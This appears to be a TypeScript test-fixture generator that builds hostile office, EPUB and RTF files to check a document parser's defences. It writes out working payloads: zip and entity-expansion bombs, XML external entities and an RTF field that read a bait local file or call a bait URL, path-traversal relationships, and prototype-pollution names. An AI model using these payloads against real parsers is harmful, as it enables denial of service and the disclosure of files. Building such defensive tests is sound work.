import { deflateRawSync } from 'node:zlib';

import { type HostileFamily, many, toDocument } from './hostile-document.ts';
import { mutate } from './hostile-text.ts';
import { buildDocx, buildOdf, buildXlsx, buildZip } from './zip-builder.ts';

const paragraph = '<w:p><w:r><w:t>x</w:t></w:r></w:p>';
const laughs = `<!DOCTYPE l [<!ENTITY a "${many('x', 100)}"><!ENTITY b "${many('&a;', 100)}"><!ENTITY c "${many('&b;', 100)}"><!ENTITY d "${many('&c;', 100)}">]>`;

const file = (name: string, bytes: Buffer | string) => toDocument(`office: ${name}`, bytes, 'application/octet-stream');

const sheet = (cells: string) => buildXlsx(`<worksheet><sheetData>${cells}</sheetData></worksheet>`);

/** Word, Excel, PowerPoint, OpenDocument, EPUB, RTF and the old binary kind. */
export const hostileOffice: HostileFamily = (random, bait) => {
  const external = `<!DOCTYPE l [<!ENTITY x SYSTEM "file://${bait.file}"><!ENTITY y SYSTEM "${bait.url}/entity"><!ENTITY % z SYSTEM "${bait.url}/dtd"> %z;]>`;
  const zeros = deflateRawSync(Buffer.alloc(80_000_000));
  const docx = buildDocx(`<w:document>${many(paragraph, 50)}</w:document>`);
  return [
    file('a docx bomb', buildDocx(Buffer.alloc(60_000_000, ' '))),
    file(
      'a docx bomb that claims to be small',
      buildZip([
        { name: '[Content_Types].xml', data: '' },
        { name: 'word/document.xml', data: 'x', packed: zeros, claimedBytes: 10 },
      ]),
    ),
    file(
      'a docx that claims to be large',
      buildZip([
        { name: '[Content_Types].xml', data: '' },
        { name: 'word/document.xml', data: 'x', claimedBytes: 4_000_000_000 },
      ]),
    ),
    file(
      'a docx of many bombs',
      buildDocx(
        paragraph,
        Array.from({ length: 200 }, (_, index) => ({ name: `word/x${index}.xml`, data: Buffer.alloc(1_000_000) })),
      ),
    ),
    file(
      'docx: laughing entities',
      buildDocx(`${laughs}<w:document><w:p><w:r><w:t>&d;&d;&d;</w:t></w:r></w:p></w:document>`),
    ),
    file(
      'docx: external entities',
      buildDocx(`${external}<w:document><w:p><w:r><w:t>&x;&y;</w:t></w:r></w:p></w:document>`),
    ),
    file(
      'docx: external template',
      buildDocx(paragraph, [
        {
          name: 'word/_rels/document.xml.rels',
          data: `<Relationships><Relationship Id="r" TargetMode="External" Target="${bait.url}/template"/></Relationships>`,
        },
      ]),
    ),
    file('docx: deep', buildDocx(many('<w:p>', 100_000))),
    file('docx: tables in tables', buildDocx(many('<w:tbl><w:tr><w:tc><w:p><w:r><w:t>x</w:t></w:r></w:p>', 600))),
    file('docx: tables in tables too deep', buildDocx(many('<w:tbl><w:tr><w:tc>', 5000))),
    file('docx: a million paragraphs', buildDocx(many(paragraph, 400_000))),
    file('docx: one long text', buildDocx(`<w:p><w:r><w:t>${many('x', 15_000_000)}</w:t></w:r></w:p>`)),
    file('docx: rows without end', buildDocx(`<w:tbl>${many('<w:tr><w:tc><w:p/></w:tc></w:tr>', 200_000)}</w:tbl>`)),
    file('docx: broken XML', buildDocx('<w:document><w:p><w:r><w:t>x</w:q></')),
    file(
      'docx: no document',
      buildZip([
        { name: '[Content_Types].xml', data: '' },
        { name: 'word/', data: '' },
      ]),
    ),
    file('docx: cut', docx.subarray(0, docx.length / 2)),
    file('docx: UTF-16 with a lone surrogate', buildDocx(Buffer.from([0xff, 0xfe, 0x00, 0xd8, 0x3c, 0x00]))),
    ...Array.from({ length: 10 }, (_, index) =>
      file(`docx: changed at random ${index}`, mutate(docx, random.between(1, 1_000_000))),
    ),
    file(
      'xlsx: far columns',
      sheet(many('<row><c r="XFD1048576"><v>1</v></c><c r="ZZZZ1"><v>1</v></c></row>', 20_000)),
    ),
    file('xlsx: a million cells', sheet(many('<row><c><v>1</v></c></row>', 300_000))),
    file(
      'xlsx: strings that are not there',
      sheet('<row><c t="s"><v>99999999999</v></c><c t="s"><v>-1</v></c><c t="s"><v>x</v></c></row>'),
    ),
    file('xlsx: dates out of time', sheet('<row><c s="0"><v>1e308</v></c><c s="0"><v>-5</v></c></row>')),
    file(
      'xlsx: external entities',
      buildXlsx(
        `${external}<worksheet><sheetData><row><c t="inlineStr"><is><t>&x;&y;</t></is></c></row></sheetData></worksheet>`,
      ),
    ),
    file(
      'xlsx: relations that climb',
      buildZip([
        { name: '[Content_Types].xml', data: '' },
        { name: 'xl/workbook.xml', data: '<sheet name="a" r:id="r"/>' },
        { name: 'xl/_rels/workbook.xml.rels', data: `<Relationship Id="r" Target="../../../../..${bait.file}"/>` },
      ]),
    ),
    file(
      'xlsx: shared strings without end',
      buildXlsx('<row><c t="s"><v>0</v></c></row>', [
        { name: 'xl/sharedStrings.xml', data: many('<si><t>x</t></si>', 300_000) },
      ]),
    ),
    file('xlsx: names of the language', sheet('<row><c t="__proto__" r="constructor"><v>__proto__</v></c></row>')),
    file(
      'pptx: slides that are not there',
      buildZip([
        { name: '[Content_Types].xml', data: '' },
        { name: 'ppt/presentation.xml', data: many('<p:sldId r:id="r"/>', 20_000) },
        { name: 'ppt/_rels/presentation.xml.rels', data: '<Relationship Id="r" Target="slides/none.xml"/>' },
      ]),
    ),
    file(
      'pptx: one slide many times',
      buildZip([
        { name: '[Content_Types].xml', data: '' },
        { name: 'ppt/presentation.xml', data: many('<p:sldId r:id="r"/>', 5000) },
        { name: 'ppt/_rels/presentation.xml.rels', data: '<Relationship Id="r" Target="a.xml"/>' },
        { name: 'ppt/a.xml', data: many('<a:p><a:r><a:t>x</a:t></a:r></a:p>', 500) },
      ]),
    ),
    file('odt: repeated blanks', buildOdf(`<text:p>${many('<text:s text:c="1000000000"/>', 5000)}</text:p>`)),
    file('odt: deep', buildOdf(many('<text:list><text:list-item>', 3000))),
    file(
      'ods: repeated cells',
      buildOdf(
        `<table:table>${many('<table:table-row table:number-rows-repeated="1048576"><table:table-cell table:number-columns-repeated="16384"><text:p>x</text:p></table:table-cell></table:table-row>', 5000)}</table:table>`,
        'spreadsheet',
      ),
    ),
    file('odt: external entities', buildOdf(`${external}<text:p>&x;&y;</text:p>`)),
    file(
      'epub: a chapter that loops',
      buildZip([
        { name: 'mimetype', data: 'application/epub+zip', stored: true },
        { name: 'META-INF/container.xml', data: '<rootfile full-path="a.opf"/>' },
        { name: 'a.opf', data: `<item id="c" href="c.html"/>${many('<itemref idref="c"/>', 3000)}` },
        { name: 'c.html', data: many('<p>x</p>', 500) },
      ]),
    ),
    file(
      'epub: paths that climb',
      buildZip([
        { name: 'mimetype', data: 'application/epub+zip', stored: true },
        { name: 'META-INF/container.xml', data: `<rootfile full-path="../../..${bait.file}"/>` },
      ]),
    ),
    file('rtf: deep', `{\\rtf1 ${many('{', 500_000)}x`),
    file('rtf: closed too often', `{\\rtf1 ${many('}', 500_000)}x`),
    file('rtf: numbers', `{\\rtf1 ${many('\\u-99999999999 ?\\uc999999999 ', 50_000)}`),
    file(
      'rtf: an object',
      `{\\rtf1{\\object\\objdata ${many('d0cf11e0', 100_000)}}\\field{\\*\\fldinst INCLUDETEXT "file://${bait.file}"}x}`,
    ),
    file('rtf: backslashes', `{\\rtf1 ${many('\\', 1_000_000)}`),
    file('the old binary kind', Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(4096)])),
  ];
};
